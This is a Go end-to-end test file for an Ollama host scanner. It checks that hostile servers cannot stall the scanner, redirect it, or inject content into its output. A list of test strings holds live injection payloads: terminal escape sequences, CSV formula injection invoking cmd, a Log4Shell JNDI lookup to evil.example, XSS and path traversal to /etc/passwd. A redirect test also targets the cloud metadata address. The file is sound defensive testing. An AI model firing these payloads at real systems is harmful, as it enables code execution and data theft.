//go:build linux

package e2e

import (
	"bufio"
	"encoding/csv"
	stdjson "encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"gatehouse/internal/ollama/ollamatest"
)

// formats are all that a scan can write.
var formats = []string{"table", "jsonl", "json", "csv", "sarif"}

// TestHostile scans every host that lies, stalls or breaks rules, all at once.
func TestHostile(t *testing.T) {
	const budget = 3 * time.Second // of one host
	kinds := slices.DeleteFunc(ollamatest.Variants(), func(s *ollamatest.Server) bool {
		return !strings.HasPrefix(s.Name, "hostile/")
	})
	if len(kinds) < 20 {
		t.Fatalf("%d kinds, want 20 at least", len(kinds))
	}
	houses := make([]ollamatest.House, len(kinds))
	for i, s := range kinds {
		houses[i].Server = s
	}
	street, err := ollamatest.Open(houses...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(street.Close)
	at := make(map[uint16]*ollamatest.Server)
	args := []string{"scan", "--all", "--prove", "--details", "--max-time", budget.String(), "--timeout", "1s"}
	for _, h := range street.Houses {
		at[h.Addr.Port()] = h.Server
		args = append(args, h.Addr.String())
	}

	// The formats make no difference to the looking, so they share its time.
	t.Run("formats", func(t *testing.T) {
		for _, format := range formats {
			t.Run(format, func(t *testing.T) {
				t.Parallel()
				r := run(t, slices.Concat(args, []string{"--format", format})...)
				r.exits(t, 3) // three of them are Ollamas with rude names, and open
				t.Logf("%d hosts in %v, %d MiB", len(kinds), r.took, r.peak>>20)
				if r.took > 10*budget { // a host without end would have us wait for ever
					t.Errorf("took %v, and no host has more than %v", r.took, budget)
				}
				if r.peak > maxPeak {
					t.Errorf("held %d MiB, want %d at most", r.peak>>20, maxPeak>>20)
				}
				clean(t, r, format)
				if format != "json" {
					return
				}
				got := r.report(t)
				if int(got.Summary.Visited) != len(kinds) || len(got.Hosts) != len(kinds) {
					t.Errorf("%d visited, %d records, want %d", got.Summary.Visited, len(got.Hosts), len(kinds))
				}
				for _, rec := range got.Hosts {
					s := at[rec.Port]
					if rec.Outcome != s.Truth.Outcome && rec.Outcome != s.Truth.Or {
						t.Errorf("%s is %s (%s), want %s %s", s.Name, rec.Outcome, rec.Reason, s.Truth.Outcome, s.Truth.Or)
					}
					if rec.Reason == "" {
						t.Errorf("%s is %s for no reason", s.Name, rec.Outcome)
					}
				}
			})
		}
	})
	if harm := street.Harm(); len(harm) > 0 {
		t.Errorf("did harm: %q", harm)
	}
	for _, s := range kinds {
		for asked := range s.Requests() {
			if _, path, _ := strings.Cut(asked, " "); !slices.ContainsFunc(everything, func(r string) bool { return strings.HasSuffix(r, " "+path) }) {
				t.Errorf("%s was asked %s", s.Name, asked)
			}
		}
	}
}

// TestBudgets scans hosts that are Ollamas in every answer, and would be heard to
// the end if one answer's limits were all.
func TestBudgets(t *testing.T) {
	answers := map[string]string{
		"/":            "Ollama is running",
		"/api/version": `{"version":"0.17.4"}`,
		"/api/tags":    `{"models":[],"padding":"` + strings.Repeat("x", 64<<10) + `"}`,
		"/api/ps":      `{"models":[]}`,
	}
	for _, c := range []struct {
		name  string
		pause time.Duration // before each answer
		flags []string
	}{
		{"time", 700 * time.Millisecond, []string{"--max-time", "1s"}}, // time for the banner, not for more
		{"bytes", 0, []string{"--max-bytes", "16384"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			var asked sync.Map
			host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				asked.Store(r.Method+" "+r.URL.Path, true)
				select {
				case <-time.After(c.pause):
				case <-r.Context().Done():
				}
				answer, ok := answers[r.URL.Path]
				if !ok {
					w.WriteHeader(http.StatusBadRequest)
					answer = `{"error":"missing request body"}`
				}
				_, _ = w.Write([]byte(answer))
			}))
			t.Cleanup(host.Close)
			flags := []string{"scan", host.Listener.Addr().String(), "--all", "--prove", "--details", "--format", "jsonl"}
			r := run(t, append(flags, c.flags...)...)
			r.exits(t, 0)
			if got := r.record(t); got.Outcome != "broken" && got.Outcome != "silent" || got.Reason == "" {
				t.Errorf("%s (%s), want broken or silent for a reason", got.Outcome, got.Reason)
			}
			asked.Range(func(request, _ any) bool {
				if !slices.Contains(reads, request.(string)) {
					t.Errorf("asked %s with its budget used up", request)
				}
				return true
			})
		})
	}
}

// TestRedirects scans hosts that lead elsewhere, and waits there for the scan,
// which does not come.
func TestRedirects(t *testing.T) {
	canary, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var sung atomic.Int64
	var waiting sync.WaitGroup
	waiting.Go(func() {
		for {
			conn, err := canary.Accept()
			if err != nil {
				return
			}
			sung.Add(1)
			_ = conn.Close()
		}
	})
	t.Cleanup(waiting.Wait)
	t.Cleanup(func() { _ = canary.Close() })

	args := []string{"scan", "--all", "--prove", "--details", "--format", "jsonl"}
	var asked sync.Map // what was asked of the hosts
	for _, to := range []string{
		"http://" + canary.Addr().String() + "/api/version",
		"//" + canary.Addr().String() + "/",
		"https://localhost:" + fmt.Sprint(canary.Addr().(*net.TCPAddr).Port) + "/login",
		"http://169.254.169.254/latest/meta-data/",
		"/elsewhere",
	} {
		for _, status := range []int{301, 302, 303, 307, 308} {
			host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				asked.Store(r.Method+" "+r.URL.Path, true)
				w.Header().Set("Location", to)
				w.Header().Set("Refresh", "0; url="+to)
				w.WriteHeader(status)
			}))
			t.Cleanup(host.Close)
			args = append(args, host.Listener.Addr().String())
		}
	}
	r := run(t, args...)
	r.exits(t, 0)
	if n := sung.Load(); n > 0 {
		t.Errorf("%d connections came to where a redirect led", n)
	}
	asked.Range(func(request, _ any) bool {
		if !slices.Contains(reads, request.(string)) {
			t.Errorf("asked %s, where a redirect led", request)
		}
		return true
	})
	records := r.records(t)
	if len(records) != 25 {
		t.Errorf("%d records, want 25", len(records))
	}
	for _, rec := range records {
		if rec.Outcome != "other" && rec.Outcome != "guarded" || rec.Reason == "" {
			t.Errorf("port %d is %s (%s)", rec.Port, rec.Outcome, rec.Reason)
		}
	}
}

// evils are texts that do something to whoever shows them.
var evils = []string{
	"\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[31mred", "\u009b31mred", "\x9b31m",
	"a\rb", "a\nb", "a\r\n,b", "nul\x00nul", "bell\x07", "back\x08\x08\x08", "\x7fdel", "tab\tb",
	"\u202egnp.exe", "\u2066isolated\u2069", "zero\u200bwidth", "\ufeffmark", "line\u2028line", "tag\U000e0041", "z\u0310\u0311\u0312\u0313\u0314\u0315\u0316",
	"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80",
	"=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "\"=1", "a;=1", "a,=1", "a\",=1", "＝1",
	"<script>alert(1)</script>", "\"onmouseover=\"alert(1)", "${jndi:ldap://evil.example/a}", "]]>", "{{.}}", "%0a%1b", "../../etc/passwd",
	"\\u001b[2J", strings.Repeat("long", 2000),
}

// TestEvilText scans hosts that say evil texts wherever a host can say any, and
// looks for them in what is written.
func TestEvilText(t *testing.T) {
	args := []string{"scan", "--all", "--prove", "--details", "--max-time", "5s", "--rate", "100000", "--network-rate", "100000"}
	var houses []ollamatest.House
	for i, evil := range evils {
		models := ollamatest.Library("llama3.1:8b", "qwen2.5:7b")
		m := &models[0]
		m.Name, m.Params, m.Quant, m.Family, m.System = evil, evil, evil, evil, evil
		houses = append(houses,
			ollamatest.House{Server: ollamatest.Ollama{Models: models, Running: []ollamatest.Running{ollamatest.Loaded(*m)}}.Server(fmt.Sprint("name", i))},
			ollamatest.House{Server: ollamatest.Ollama{Models: models[1:], Version: evil}.Server(fmt.Sprint("version", i))},
		)
		for _, what := range []string{
			"HTTP/1.1 200 OK\r\nServer: " + evil + "\r\nContent-Length: 2\r\n\r\nhi",
			"HTTP/1.1 200 " + evil + "\r\n" + evil + ": a\r\nContent-Length: 2\r\n\r\nhi",
			"HTTP/1.1 302 Found\r\nLocation: " + evil + "\r\nContent-Length: 0\r\n\r\n",
			"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"" + evil + "\"\r\nContent-Length: 0\r\n\r\n",
			"HTTP/1.1 403 Forbidden\r\nContent-Length: " + fmt.Sprint(len(evil)) + "\r\n\r\n" + evil,
			"SSH-2.0-" + evil + "\r\n",
			evil,
		} {
			args = append(args, say(t, what))
		}
	}
	street, err := ollamatest.Open(houses...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(street.Close)
	for _, h := range street.Houses {
		args = append(args, h.Addr.String())
	}

	t.Run("formats", func(t *testing.T) {
		for _, format := range formats {
			t.Run(format, func(t *testing.T) {
				t.Parallel()
				r := run(t, slices.Concat(args, []string{"--format", format})...)
				r.exits(t, 3)
				clean(t, r, format)
				if format == "json" {
					tells(t, r.report(t))
				}
			})
		}
	})
}

// tells fails the test unless every evil text is in the report, as far as it is
// text: else the test would be one of nothing.
func tells(t *testing.T, got report) {
	t.Helper()
	names, versions := make(map[string]bool), make(map[string]bool)
	for _, rec := range got.Hosts {
		versions[rec.Identity.Version] = true
		for _, m := range rec.Models {
			names[m.Name] = true
		}
	}
	for _, evil := range evils {
		// As encoding/json has the simulator write it: U+FFFD for each byte.
		text := string([]rune(evil))
		if !names[text] && !versions[text] {
			t.Errorf("no host is told to have a model or a version %q", text)
		}
	}
}

// say listens on loopback, answers the first request of every connection with
// what, and hangs up.
func say(t *testing.T, what string) (address string) {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var talking sync.WaitGroup
	talking.Go(func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			talking.Go(func() {
				defer conn.Close()
				// A visitor who does not ask is not waited for.
				_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
				if _, err := http.ReadRequest(bufio.NewReader(conn)); err == nil {
					_, _ = conn.Write([]byte(what))
				}
			})
		}
	})
	t.Cleanup(talking.Wait)
	t.Cleanup(func() { _ = ln.Close() })
	return ln.Addr().String()
}

// clean fails the test if what r wrote in format obeys a host: on a terminal, in
// a spreadsheet, or in whatever reads it.
func clean(t *testing.T, r result, format string) {
	t.Helper()
	for name, text := range map[string]string{"standard output": r.out, "standard error": r.err} {
		if evil := acts(text); evil != "" {
			t.Errorf("%s has %s", name, evil)
		}
	}
	switch format {
	case "csv":
		cells(t, r.out)
	case "json", "sarif":
		var any map[string]stdjson.RawMessage
		if err := stdjson.Unmarshal([]byte(r.out), &any); err != nil {
			t.Errorf("not JSON: %v", err)
		}
	case "jsonl":
		for line := range strings.Lines(r.out) {
			if !stdjson.Valid([]byte(line)) {
				t.Errorf("not JSON: %s", line)
			}
		}
	}
}

// acts says which character of text is no character to be seen, and where; ""
// when all are. Lines may end.
func acts(text string) string {
	for i, r := range text {
		_, n := utf8.DecodeRuneInString(text[i:])
		if r == utf8.RuneError && n == 1 || r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			return fmt.Sprintf("%q in %q", text[i:i+n], text[max(0, i-40):min(len(text), i+40)])
		}
	}
	return ""
}

// cells holds a CSV to one line a row, as many cells in each, and no formula.
func cells(t *testing.T, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll() // as wide as the first
	if err != nil {
		t.Error(err)
		return
	}
	if lines := strings.Count(text, "\n"); lines != len(rows) {
		t.Errorf("%d rows on %d lines", len(rows), lines)
	}
	for _, row := range rows {
		for i, cell := range row {
			if formula(cell) {
				t.Errorf("a formula in column %s: %q", rows[0][i], cell)
			}
		}
	}
}

// formula reports whether a spreadsheet may take cell for something to compute.
func formula(cell string) bool {
	cell = strings.TrimLeft(cell, " \"")
	return strings.IndexAny(cell, "=+-@\t\r＝＋－＠") == 0
}

// TestEyes is the proof that clean can fail.
func TestEyes(t *testing.T) {
	for text, want := range map[string]bool{
		"plain\n": false, "≤ 8 GB …\n": false, `\x1b[2J`: false, "\ufffd": false,
		"\x1b[2J": true, "a\tb": true, "a\r\n": true, "\x00": true, "\x7f": true, "\u009b": true,
		"\u202e": true, "\u2066": true, "\u200b": true, "\u2028": true, "\xff": true,
	} {
		if got := acts(text); (got != "") != want {
			t.Errorf("%q: %q", text, got)
		}
	}
	for cell, want := range map[string]bool{
		"": false, "a=1": false, "'=1": false, "1-2": false,
		"=1": true, "+1": true, "-1": true, "@a": true, "\t=1": true, " =1": true, "\"=1": true, "＝1": true,
	} {
		if formula(cell) != want {
			t.Errorf("%q is a formula: %v", cell, !want)
		}
	}
}
